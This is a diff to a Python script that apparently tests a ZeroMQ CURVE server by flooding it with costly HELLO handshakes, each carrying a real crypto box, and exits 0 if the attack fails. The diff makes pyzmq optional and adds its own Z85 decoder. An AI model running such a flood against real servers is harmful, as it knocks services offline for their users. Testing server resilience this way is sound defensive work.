@@ -12,7 +12,6 @@
 KEY is a secret certificate, CERT the public one of the server.  The exit code
 is 0 if the attack failed."""
 import ctypes
-import ctypes.util
 import os
 import re
 import resource
@@ -23,9 +22,11 @@ import sys
 import threading
 import time
 
-import zmq
-import zmq.utils.monitor
-from zmq.utils import z85
+try:
+    import zmq
+    import zmq.utils.monitor
+except ImportError:  # a flood does without
+    zmq = None
 
 PATIENCE = float(os.environ.get("SLUICE_PATIENCE", "300"))
 TRIES = 20
@@ -35,6 +36,8 @@ GROWTH = 64 << 20
 GREETING = (b"\xff" + bytes(7) + b"\x01\x7f\x03\x01" +
             b"CURVE".ljust(20, b"\0") + bytes(32))
 HELLO_BYTES = 200
+Z85 = (b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+       b".-:+=^!/*?&<>()[]{}@%$#")
 
 
 def key_of(path, name):
@@ -189,16 +192,24 @@ def parts(endpoint, secret, cert, pid):
         sys.exit(1)
 
 
+def z85_decoded(text):
+    """Five characters are four bytes, as ZeroMQ's RFC 32 has them."""
+    values = [Z85.index(c) for c in text]
+    groups = zip(*[iter(values)] * 5)
+    return b"".join(sum(v * 85 ** (4 - i) for i, v in enumerate(g)).to_bytes(
+        4, "big") for g in groups)
+
+
 def hello(cert):
     """A HELLO with a box that the server opens: the dearest for it."""
-    sodium = ctypes.CDLL(ctypes.util.find_library("sodium"))
+    sodium = ctypes.CDLL("libsodium.so.23")
     public, secret = (ctypes.create_string_buffer(32) for _ in range(2))
     sodium.crypto_box_keypair(public, secret)
     short = secrets.token_bytes(8)
     box = ctypes.create_string_buffer(80)
     sodium.crypto_box_easy(box, bytes(64), ctypes.c_ulonglong(64),
                            b"CurveZMQHELLO---" + short,
-                           z85.decode(key_of(cert, "public-key")), secret)
+                           z85_decoded(key_of(cert, "public-key")), secret)
     body = (b"\x05HELLO\x01\x00" + bytes(72) + public.raw + short + box.raw)
     return b"\x04" + bytes([len(body)]) + body
 
